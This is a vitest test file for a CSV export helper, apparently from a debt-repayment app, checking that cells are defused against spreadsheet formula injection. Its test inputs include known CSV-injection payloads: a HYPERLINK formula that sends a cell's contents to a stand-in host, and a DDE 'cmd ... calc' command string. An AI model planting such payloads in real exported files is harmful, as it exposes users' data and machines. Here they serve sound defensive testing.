import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../../src/islands/shared/csv';

/** The cells of a one-row CSV, as written between the BOM and the CRLF. */
const line = (cells: string[]) => toCsv([cells]).slice(1, -2);

describe('toCsv: no cell is read as a formula by a spreadsheet (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&A1,"点我")', `"'=HYPERLINK(""http://x.example/?""&A1,""点我"")"`],
    ['+1+1', `"'+1+1"`],
    ['-2+3+cmd|\' /C calc\'!A0', `"'-2+3+cmd|' /C calc'!A0"`],
    ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['-', `"'-"`],
    ['-1e3', `"'-1e3"`],
    ['+5', `"'+5"`],
  ])('a text cell %j is written as %s', (text, written) => {
    expect(line([text])).toBe(written);
  });

  it.each([['-5075.00'], ['-1'], ['0.00'], ['1234.56'], ['12']])('a plain decimal number %s stays a number (it cannot hold a formula)', (n) => {
    expect(line([n])).toBe(n);
  });

  it('leaves ordinary text as it was and still quotes commas, quotes and line breaks (RFC 4180)', () => {
    expect(line(['还款 1', 'a,b', 'say "hi"', 'two\nlines', '2025-03'])).toBe('还款 1,"a,b","say ""hi""","two\nlines",2025-03');
  });

  it('neutralises a formula in a header built from a debt name', () => {
    const csv = toCsv([['月份', '=HYPERLINK("x") 还款'], ['1', '-300.00']]);
    expect(csv).toBe('\uFEFF月份,"\'=HYPERLINK(""x"") 还款"\r\n1,-300.00\r\n');
  });
});
